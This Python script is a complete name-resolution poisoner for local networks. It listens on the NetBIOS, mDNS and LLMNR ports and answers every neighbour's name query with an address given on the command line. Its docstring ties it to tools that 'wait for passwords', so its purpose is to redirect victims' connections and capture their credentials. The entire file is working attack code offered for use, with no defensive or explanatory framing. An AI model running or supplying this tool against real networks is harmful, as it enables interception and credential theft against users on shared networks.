"""Answers every neighbour's question for a name with one address, as tools do that wait for passwords.

poisoner.py ADDRESS

Spec: RFC 4795 2.1, RFC 6762 6, RFC 1002 4.2.13.
"""

import select
import socket
import struct
import sys

address = socket.inet_aton(sys.argv[1])
MULTICAST = {5353: "224.0.0.251", 5355: "224.0.0.252"}
lines = {}
for port in (137, 5353, 5355):
    line = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    line.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    line.bind(("", port))
    if port in MULTICAST:
        member = socket.inet_aton(MULTICAST[port]) + address
        line.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, member)
    lines[line] = port
while True:
    for line in select.select(lines, [], [])[0]:
        asked, who = line.recvfrom(1500)
        if asked[2] & 0x80:
            continue
        name = asked[12 : asked.index(b"\0", 12) + 1]
        port = lines[line]
        head = asked[:2] + struct.pack(">H", {137: 0x8500, 5353: 0x8400, 5355: 0x8000}[port])
        if port == 137:
            answer = head + struct.pack(">HHHH", 0, 1, 0, 0) + name
            answer += struct.pack(">HHIHH", 0x20, 1, 300, 6, 0) + address
        else:
            answer = head + struct.pack(">HHHH", 1, 1, 0, 0) + name + struct.pack(">HH", 1, 1)
            answer += name + struct.pack(">HHIH", 1, 1, 30, 4) + address
        line.sendto(answer, who)
